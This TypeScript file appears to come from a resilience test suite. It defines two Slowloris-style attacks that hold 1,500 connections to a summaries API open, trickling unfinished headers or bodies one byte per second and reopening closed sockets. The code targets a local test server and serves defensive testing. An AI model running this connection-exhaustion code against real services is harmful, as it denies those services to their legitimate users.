import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import type { Attack, AttackTarget } from './attack.ts';

const connectionsAll = 1_500;
const betweenMs = 1_000;
const attackerAddress = '127.0.0.66';

/** Opens connections that begin with the same bytes and go on by one byte a second each; a closed one is opened again. */
async function trickle({ apiUrl, signal }: AttackTarget, beginning: string, byte: () => string): Promise<void> {
  const { hostname, port } = new URL(apiUrl);
  const sockets = new Map<number, Socket>();
  const open = (index: number): void => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: attackerAddress });
    socket.on('error', () => undefined).on('close', () => sockets.delete(index));
    socket.resume().write(beginning);
    sockets.set(index, socket);
  };
  try {
    while (!signal.aborted) {
      for (let index = 0; index < connectionsAll; index += 1) {
        const socket = sockets.get(index);
        if (socket === undefined) open(index);
        else socket.write(byte());
      }
      await wait(betweenMs, undefined, { signal });
    }
  } finally {
    for (const socket of sockets.values()) socket.destroy();
  }
}

/** 1,500 requests of which the head never ends. */
export const slowHeads: Attack = {
  name: '1,500 heads that never end',
  run: (target) => trickle(target, 'POST /v1/summaries HTTP/1.1\r\nHost: localhost\r\nX-A: ', () => 'a'),
};

/** 1,500 requests of which the body never ends. */
export const slowBodies: Attack = {
  name: '1,500 bodies that never end',
  run: (target) => {
    const head =
      'POST /v1/summaries HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"source":{"type":"text","text":"';
    return trickle(target, head, () => 'a');
  },
};
